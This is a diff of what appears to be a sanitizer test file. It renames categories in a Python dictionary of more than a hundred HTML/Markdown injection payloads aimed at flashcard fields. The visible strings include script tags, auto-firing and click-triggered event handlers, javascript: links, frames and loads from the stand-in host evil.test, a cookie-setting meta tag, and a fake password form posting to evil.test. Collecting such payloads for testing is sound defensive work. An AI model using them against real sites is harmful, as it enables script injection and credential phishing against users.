@@ -1,6 +1,6 @@
-"""More than a hundred ways to make a field of a card do more than show text, by technique.
+"""More than a hundred attempts to make a card do more than show text, grouped by technique.
 
-Each tries to open a dialog, to load something from `evil.test`, to leave the page, or to cover what is around the card.
+Each one tries to open a dialog, to load something from `evil.test`, to leave the page, or to cover other parts of it.
 """
 
 ATTACKS = {
@@ -18,7 +18,7 @@ ATTACKS = {
         "<math><script>alert(1)</script></math>",
         "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
     ],
-    "handlers that fire by themselves": [
+    "handlers that fire on their own": [
         "<img src=x onerror=alert(1)>",
         "<img src=x ONERROR = 'alert(1)'>",
         "<img/src/onerror=alert(1)>",
@@ -46,14 +46,14 @@ ATTACKS = {
         "<link rel=stylesheet href=x onerror=alert(1)>",
         "<iframe srcdoc=x onload=alert(1)></iframe>",
     ],
-    "handlers that wait for the learner": [
+    "handlers that wait for the user": [
         "<b onclick=alert(1)>tap</b>",
         "<p onmouseover='alert(1)'>hover</p>",
         "<span\nonpointerdown=alert(1)>touch</span>",
         "<td onwheel=alert(1)>scroll</td>",
         "<ul oncopy=alert(1)><li>copy</li></ul>",
     ],
-    "addresses": [
+    "links": [
         "[x](javascript:alert(1))",
         "[x](JaVaScRiPt:alert(1))",
         "[x](java\tscript:alert(1))",
@@ -87,7 +87,7 @@ ATTACKS = {
         "<frameset><frame src=https://evil.test></frameset>",
         "<portal src=https://evil.test></portal>",
     ],
-    "loads from outside": [
+    "external resources": [
         "![x](https://evil.test/x.png)",
         "![x](//evil.test/x.png)",
         "<img srcset='https://evil.test/x.png 1x'>",
@@ -114,7 +114,7 @@ ATTACKS = {
         "<meta http-equiv=Set-Cookie content=a=b>",
         "<dialog open>Your password, please<form action=https://evil.test><input name=p></form></dialog>",
     ],
-    "parsers that disagree": [
+    "differences between parsers": [
         "<!--><img src=x onerror=alert(1)>-->",
         "<![CDATA[<img src=x onerror=alert(1)>]]>",
         "<?xml version='1.0'?><img src=x onerror=alert(1)>",
